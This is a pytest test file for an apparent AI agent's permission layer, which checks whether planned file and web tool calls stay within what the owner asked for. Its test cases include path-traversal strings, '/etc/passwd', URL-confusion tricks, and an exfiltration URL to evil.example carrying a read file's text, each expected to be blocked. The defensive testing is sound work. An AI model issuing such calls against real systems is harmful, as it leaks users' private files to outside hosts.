from collections.abc import Mapping, Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from metnos.context.window import Line, build
from metnos.turn.plan.coverage import is_asked_for
from metnos.turn.plan.model_bounds import Verdict, draw, judge
from metnos.turn.plan.model_scene import Done
from metnos.turn.plan.records import Step
from tables import try_each
from turn.plan.asking import HOME, done, scene, tools

FREE, TAINTED, DROPPED = Verdict.FREE, Verdict.TAINTED, Verdict.DROPPED
OWN = (Step("move_files", {"paths": ["~/inbox/a.txt", "~/inbox/b.txt"], "to": "~/out"}),)
READ = done(1, "read_files", {"paths": ["~/inbox/a.txt"]}, {"path": f"{HOME}/inbox/a.txt", "text": "~/secret"})
FOUND = done(1, "find_files", {"path": "~/x"}, {"path": "/srv/found.txt"})


def judged(
    text: str,
    *calls: tuple[str, Mapping[str, Any]],
    own: Sequence[Step] = (),
    did: Sequence[Done] = (),
    strict: bool = True,
) -> list[Verdict]:
    sources = {f"step{each.number}": tools()[each.executor] for each in did} | ({} if strict else {"last": None})
    bounds = draw(text, scene(), own=own, done=did, known=tools(), sources=sources, strict=strict)
    return list(judge([Step(*call) for call in calls], tools(), bounds, len(did) + 1))


@try_each(
    ("path", "verdict"),
    [
        ("~/inbox/a.txt", FREE),
        ("~/inbox", FREE),
        (f"{HOME}/inbox/deep/er.txt", FREE),
        ("~/inbox/../secret", DROPPED),
        ("~/inbox2/a.txt", DROPPED),
        ("~/secret", DROPPED),
        ("/etc/passwd", DROPPED),
        ("~root/inbox/a.txt", DROPPED),
        ("inbox/../../other", DROPPED),
        ("~/", DROPPED),
        ("/", DROPPED),
        ("{{step1.entries.path}}", FREE),
        ("{{step1.entries.text}}", DROPPED),
        ("{{step1.entries.path}}/../x", DROPPED),
    ],
)
def test_looking_stays_where_the_owner_said(path: str, verdict: Verdict) -> None:
    assert judged("what is in ~/inbox?", ("read_files", {"paths": [path]}), did=[READ]) == [verdict]


def test_a_path_that_an_executor_declares_is_covered_and_a_cell_is_not() -> None:
    assert judged("what?", ("read_files", {"paths": ["/srv/found.txt"]}), did=[FOUND]) == [FREE]
    cells = done(1, "read_tables", {"path": "~/t.csv"}, {"path": "/srv/found.txt"})
    assert judged("what?", ("read_files", {"paths": ["/srv/found.txt"]}), did=[cells]) == [DROPPED]
    assert judged("what?", ("read_files", {"paths": ["{{step1.entries.path}}"]}), did=[cells]) == [DROPPED]


@pytest.mark.parametrize(
    ("args", "verdict"),
    [
        (OWN[0].args, FREE),
        ({"paths": ["~/inbox/a.txt"], "to": "~/out"}, FREE),
        ({"paths": [], "to": "~/out"}, TAINTED),
        ({"paths": ["~/inbox/a.txt"], "to": "~/out", "keep_both": True}, TAINTED),
        ({"paths": ["~/inbox/c.txt"], "to": "~/out"}, TAINTED),
        ({"paths": ["~/inbox/a.txt"], "to": "~/elsewhere"}, DROPPED),
        ({"paths": ["~/secret"], "to": "~/out"}, DROPPED),
    ],
)
def test_a_change_is_the_owners_own_or_needs_a_yes(args: Mapping[str, Any], verdict: Verdict) -> None:
    assert judged("move a and b from ~/inbox to ~/out", ("move_files", args), own=OWN) == [verdict]


def test_changes_without_a_path_need_a_yes_too() -> None:
    assert judged("what did I note?", ("append_notes", {"text": "x"})) == [TAINTED]
    assert judged("what is due?", ("set_reminders", {"text": "x", "when": "tomorrow"})) == [TAINTED]


@try_each(
    ("url", "verdict"),
    [
        ("http://good.example/a", FREE),
        ("http://good.example/other", TAINTED),
        ("http://GOOD.example./b?x=1", TAINTED),
        ("http://good.example:8080/a", DROPPED),
        ("https://good.example/a", DROPPED),
        ("http://evil.example/a", DROPPED),
        ("http://good.example@evil.example/a", DROPPED),
        ("http://good.example.evil.example/a", DROPPED),
        ("{{step1.entries.text}}", TAINTED),
        ("http://evil.example/?{{step1.entries.text}}", DROPPED),
        ("not an address", DROPPED),
    ],
)
def test_reaching_out_stays_with_the_owners_addresses(url: str, verdict: Verdict) -> None:
    assert judged("what says http://good.example/a?", ("get_pages", {"urls": [url]}), did=[READ]) == [verdict]


def test_what_rests_on_a_dropped_step_falls_with_it() -> None:
    calls = (("find_files", {"path": "~/secret"}), ("read_files", {"paths": ["{{step1.entries.path}}"]}))
    assert judged("what is in ~/inbox?", *calls) == [DROPPED, DROPPED]


def test_a_first_plan_in_sight_of_earlier_answers() -> None:
    delete = ("delete_files", {"paths": ["~/a.txt"]})
    assert judged("delete ~/a.txt", delete, strict=False) == [FREE]
    assert judged("cancella ~/a.txt", delete, strict=False) == [FREE]
    assert judged("read ~/a.txt", delete, strict=False) == [TAINTED]  # nobody asked for that
    assert judged("delete ~/b.txt", delete, strict=False) == [TAINTED]
    assert judged("delete them", ("delete_files", {"paths": ["{{last.entries.path}}"]}), strict=False) == [FREE]
    assert judged("read them", ("delete_files", {"paths": ["{{last.entries.path}}"]}), strict=False) == [TAINTED]
    assert judged("open ~/x", ("get_pages", {"urls": ["http://evil.example/"]}), strict=False) == [TAINTED]
    looked = ("find_files", {"path": "~/secret"}), ("delete_files", {"paths": ["{{step1.entries.path}}"]})
    assert judged("delete the files of ~/inbox", *looked, strict=False) == [FREE, TAINTED]


def test_what_the_owner_said_before_counts_and_what_was_answered_does_not() -> None:
    window = build([Line(True, "look into ~/inbox"), Line(False, "see ~/secret and http://evil.example/")], 6)
    where = scene(window=window)
    bounds = draw("go on", where, known=tools(), sources={}, strict=True)
    assert f"{HOME}/inbox" in bounds.paths
    assert f"{HOME}/secret" not in bounds.paths
    assert not bounds.hosts


def test_a_host_counts_without_its_scheme_too() -> None:
    bounds = draw("summarise example.org", scene(), known=tools(), sources={}, strict=True)
    assert bounds.hosts == {"example.org:443"}
    assert judged("summarise example.org", ("get_pages", {"urls": ["https://example.org/a"]})) == [TAINTED]
    assert judged("summarise example.org", ("get_pages", {"urls": ["https://evil.example/"]})) == [DROPPED]


def test_an_executor_that_says_nothing_of_itself_is_not_taken_to_be_quiet() -> None:
    from dataclasses import replace

    loud = {**tools(), "read_files": replace(tools()["read_files"], quiet=False)}
    bounds = draw("read ~/a", scene(), known=loud, sources={}, strict=True)
    assert judge([Step("read_files", {"paths": ["~/a"]})], loud, bounds) == (TAINTED,)


@pytest.mark.parametrize(
    ("name", "text", "asked"),
    [
        ("delete_files", "elimina i log", True),
        ("delete_files", "throw away the drafts", True),
        ("delete_files", "which files are large?", False),
        ("append_notes", "show my notes", False),
        ("append_notes", "annota che piove", True),
        ("move_files", "spostali in ~/x", True),
        ("archive_files", "zip it", True),
    ],
)
def test_whether_the_owner_asks_for_such_an_act(name: str, text: str, asked: bool) -> None:
    assert is_asked_for(tools()[name], text) is asked


PATHS = st.lists(st.sampled_from(["..", ".", "~", "inbox", "secret", "a.txt", "", "/"]), min_size=1, max_size=6).map(
    "/".join
)


@given(PATHS)
def test_no_spelling_of_a_path_leads_out(path: str) -> None:
    import posixpath

    (verdict,) = judged("look at ~/inbox", ("read_files", {"paths": [path]}))
    spelled = f"{HOME}{path[1:]}" if path == "~" or path.startswith("~/") else posixpath.join(HOME, path)
    real = "/" + posixpath.normpath(spelled).lstrip("/")
    if verdict is FREE:
        assert real == f"{HOME}/inbox" or real.startswith(f"{HOME}/inbox/")
